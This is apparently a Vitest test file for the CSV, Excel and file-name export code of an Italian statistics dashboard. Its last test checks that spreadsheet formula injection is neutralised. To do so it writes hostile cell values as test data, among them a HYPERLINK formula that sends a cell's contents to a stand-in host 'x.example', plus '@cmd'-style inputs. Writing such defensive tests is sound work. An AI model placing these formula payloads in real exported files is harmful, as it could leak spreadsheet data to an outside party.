import { expect, test } from 'vitest';
import { toCsv } from './csv.ts';
import { fileName } from './file-name.ts';
import type { TableModel } from './table.ts';
import { xlsxSheet } from './xlsx.ts';

const table: TableModel = {
	caption: 'Nuclei per mese',
	columns: [
		{ key: 'mese', label: 'Mese', kind: 'text' },
		{ key: 'nuclei', label: 'Nuclei', kind: 'count' },
		{ key: 'importo', label: 'Importo medio; €', kind: 'euro' }
	],
	rows: [
		{ mese: 'gennaio 2024', nuclei: 12345, importo: 618.4 },
		{ mese: 'febbraio 2024', nuclei: null, importo: null }
	]
};

test('the CSV holds the table as on screen, suppressed cells included, quoted where needed', () => {
	const lines = toCsv(table).split('\r\n');
	expect(lines[0]).toBe('Mese;Nuclei;"Importo medio; €"');
	expect(lines[1].replace(/[\u00a0\u202f]/g, ' ')).toBe('gennaio 2024;12.345;618,40 €');
	expect(lines[2]).toBe('febbraio 2024;< 3;n.d.');
});

test('Excel cells keep numbers as numbers and suppressed values as their text', () => {
	const sheet = xlsxSheet(table);
	expect(sheet[1][1]).toMatchObject({ type: Number, value: 12345 });
	expect(sheet[2][1]).toMatchObject({ type: String, value: '< 3' });
});

test('file names say territory, indicator and period', () => {
	expect(fileName({ territory: 'Sant\'Angelo di Piove di Sacco', indicator: 'nuclei_per_1000', period: '2019-04 2024-02' }, 'png')).toBe(
		'cruscotto_sant-angelo-di-piove-di-sacco_nuclei-per-1000_2019-04-2024-02.png'
	);
});

test('a text cell or label that a spreadsheet would run as a formula is written as text; numbers stay numbers', () => {
	// Territory names come from the extracts (the publisher's registry, a TopoJSON): data, not code.
	const hostile: TableModel = {
		caption: 'Confronto',
		columns: [
			{ key: 'nome', label: '=HYPERLINK("http://x.example/?"&A2)', kind: 'text' },
			{ key: 'var', label: 'Variazione', kind: 'change' }
		],
		rows: [
			{ nome: '=1+1', var: -0.031 },
			{ nome: '+SUM(A1)', var: 0.02 },
			{ nome: '-2+3', var: null },
			{ nome: '@cmd', var: null },
			{ nome: '\tTAB', var: null },
			{ nome: 'Abano Terme', var: null }
		]
	};
	const lines = toCsv(hostile).split('\r\n');
	expect(lines[0]).toBe(`"'=HYPERLINK(""http://x.example/?""&A2)";Variazione`);
	expect(lines.slice(1, 7).map((l) => l.split(';')[0])).toEqual(["'=1+1", "'+SUM(A1)", "'-2+3", "'@cmd", "'\tTAB", 'Abano Terme']);
	// A formatted number keeps its sign: it is ours, not data, and must stay a number for the spreadsheet.
	expect(lines[1].split(';')[1]).toMatch(/^−3,1\s?%$/);
	expect(lines[2].split(';')[1]).toMatch(/^\+2,0\s?%$/);
});
